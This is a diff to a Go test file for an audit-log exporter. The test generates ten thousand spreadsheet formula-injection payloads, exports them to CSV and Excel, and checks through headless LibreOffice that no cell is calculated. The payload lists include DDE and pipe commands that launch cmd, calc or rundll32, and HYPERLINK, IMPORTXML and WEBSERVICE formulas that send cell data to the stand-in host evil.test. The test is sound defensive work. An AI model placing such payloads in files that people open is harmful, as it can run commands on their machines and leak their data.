@@ -7,6 +7,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -55,26 +56,67 @@ with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
 	assert.Equal(t, want, got)
 }
 
-// LibreOffice opens the CSV, and finds no formula in it.
-func TestLongCSVInLibreOffice(t *testing.T) {
+// TestLongNoFormulas opens ten thousand payloads in LibreOffice, in every text
+// of an entry, and finds no cell that it would calculate.
+func TestLongNoFormulas(t *testing.T) {
 	t.Parallel()
 	soffice := outside(t, "soffice")
 	var entries []audit.Entry
-	for i, payload := range hostile {
+	for i, payload := range formulas(10_000) {
 		e := entry(i)
-		e.Object.ID, e.Actor.Email, e.Object.Type = payload, payload, payload
+		e.Object = audit.Object{Type: payload, ID: payload}
+		e.Action, e.Actor.Email = audit.Action(payload), payload
 		e.Changes = audit.Changes{{Field: payload, New: text(payload)}}
+		if i%2 == 0 {
+			e.Changes, e.Comment = nil, payload
+		}
 		entries = append(entries, e)
 	}
-	folder := t.TempDir()
-	file := filepath.Join(folder, "audit.csv")
-	require.NoError(t, os.WriteFile(file, []byte(writeCSV(t, export.Report{}, entries...)), 0o600))
-	// "44,34,76": comma, quote, UTF-8, as the dialog for text files offers it.
-	out, err := exec.Command(soffice, "-env:UserInstallation=file://"+filepath.Join(folder, "profile"), "--headless",
-		"--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true", "--convert-to", "fods", "--outdir", folder, file).CombinedOutput()
-	require.NoError(t, err, "%s", out)
-	sheet, err := os.ReadFile(filepath.Join(folder, "audit.fods"))
-	require.NoError(t, err)
-	assert.NotContains(t, string(sheet), "table:formula")
-	assert.GreaterOrEqual(t, bytes.Count(sheet, []byte("<table:table-row")), len(entries)+1)
+	for _, format := range []export.Format{export.CSV, export.Excel} {
+		t.Run(string(format), func(t *testing.T) {
+			t.Parallel()
+			folder := t.TempDir()
+			name := filepath.Join(folder, "audit."+string(format))
+			file, err := os.Create(name)
+			require.NoError(t, err)
+			_, err = format.Write(file, all(entries...), export.Report{})
+			require.NoError(t, err)
+			require.NoError(t, file.Close())
+			args := []string{"-env:UserInstallation=file://" + filepath.Join(folder, "profile"), "--headless", "--convert-to", "fods", "--outdir", folder}
+			if format == export.CSV {
+				// Comma, quote and UTF-8, as the dialog for text files offers it;
+				// formulas are calculated.
+				args = append(args, "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true")
+			}
+			out, err := exec.Command(soffice, append(args, name)...).CombinedOutput()
+			require.NoError(t, err, "%s", out)
+			sheet, err := os.ReadFile(filepath.Join(folder, "audit.fods"))
+			require.NoError(t, err)
+			at := bytes.Index(sheet, []byte("table:formula"))
+			if at >= 0 {
+				assert.Fail(t, "a formula", "%s", sheet[at:min(at+200, len(sheet))])
+			}
+			assert.Greater(t, bytes.Count(sheet, []byte("<table:table-row")), len(entries), "it opened the whole file")
+		})
+	}
+}
+
+// formulas returns n texts that some spreadsheet might calculate.
+func formulas(n int) []string {
+	begins := []string{"", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u2003", "\u3000", "\ufeff", "\u200b", "\u200e", "\u2060", "\x00", "\x1f", "'", `"`, ";", ",", "(", "1;"}
+	signs := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=-", "+=", "-+", "@=", "{=", "﹦", "⁼", "−", "%", "|"}
+	bodies := []string{
+		"1+1", "A1", "SUM(A1:A9)", "2*3", "-2", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")", "IMPORTXML(\"http://evil.test\",\"//a\")",
+		"WEBSERVICE(\"http://evil.test\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\..\\..\\cmd.exe'!A0", "INDIRECT(\"A1\")", "EXEC(\"calc\")", "1E5", "TRUE()", "rundll32|'URL.dll,OpenURL calc.exe'!A",
+		"NOW()", "\u202e1+1", "$A$1", "'Audit Logs'.A1", "A1:B2}", "{1;2}", "REGISTER()", "CALL(\"Shell32\")", "x",
+	}
+	out := make([]string, 0, n)
+	for i := 0; len(out) < n; i++ {
+		number := ""
+		if round := i / (len(begins) * len(signs) * len(bodies)); round > 0 {
+			number = strconv.Itoa(round)
+		}
+		out = append(out, begins[i%len(begins)]+signs[i/len(begins)%len(signs)]+bodies[i/len(begins)/len(signs)%len(bodies)]+number)
+	}
+	return out
 }
